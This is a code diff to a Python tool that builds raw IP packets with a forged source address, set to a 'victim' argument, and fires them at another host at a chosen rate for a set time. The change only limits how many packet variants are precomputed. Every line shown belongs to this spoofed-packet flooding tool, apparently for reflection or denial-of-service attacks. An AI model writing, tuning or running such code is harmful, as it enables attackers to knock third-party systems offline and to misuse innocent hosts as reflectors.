@@ -12,7 +12,7 @@ import struct
 import sys
 import time
 
-VARIANTS = 4096
+MOST_VARIANTS = 4096
 
 
 def endpoint(text):
@@ -38,7 +38,8 @@ def packet(origin, destination):
 def main():
     kind, to, victim, rate, seconds = sys.argv[1:]
     destination, rate, seconds = endpoint(to), float(rate), float(seconds)
-    packets = [packet(source(kind, endpoint(victim)), destination) for _ in range(VARIANTS)]
+    variants = min(MOST_VARIANTS, int(rate))
+    packets = [packet(source(kind, endpoint(victim)), destination) for _ in range(variants)]
     batch = max(1, int(rate / 1000))
     sent = 0
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
@@ -48,7 +49,7 @@ def main():
                 time.sleep(batch / rate)
                 continue
             for _ in range(batch):
-                raw.sendto(packets[sent % VARIANTS], (destination[0], 0))
+                raw.sendto(packets[sent % variants], (destination[0], 0))
                 sent += 1
     print(f"{sent / seconds:.0f}")
 
